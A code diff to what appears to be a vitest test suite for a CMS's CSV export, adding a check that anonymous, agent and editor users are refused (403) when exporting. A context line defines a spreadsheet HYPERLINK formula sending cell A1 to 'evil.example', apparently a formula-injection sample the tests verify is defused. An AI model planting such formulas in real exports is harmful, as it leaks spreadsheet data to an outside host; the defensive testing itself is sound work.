@@ -1,5 +1,8 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { agentRole } from '../../cms/access/agent.ts';
+import { editorRole } from '../../cms/access/editor.ts';
 import { sampleStaff } from '../../cms/access/sample-staff.ts';
+import { colleague } from '../staff.ts';
 import { admin, adminToken, ask, eventually, signIn } from '../system.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';
@@ -79,6 +82,13 @@ describe.each(['csv', 'csv_utf8'])('an export as %s', (format) => {
 		expect(text).toContain(PHONE);
 		expect(live(text)).toEqual([]);
 	});
+});
+
+test('staff download exports, and save none to the file library', async () => {
+	const query = { fields: ['*'], limit: -1 };
+	for (const token of [null, (await colleague(agentRole)).token, (await colleague(editorRole)).token])
+		for (const path of ['/utils/export/property', '/UTILS/Export/property'])
+			expect((await ask('POST', path, token, { query, format: 'csv', file: { title: 'refused' } })).status).toBe(403);
 });
 
 test('an export as JSON is left as it is', async () => {
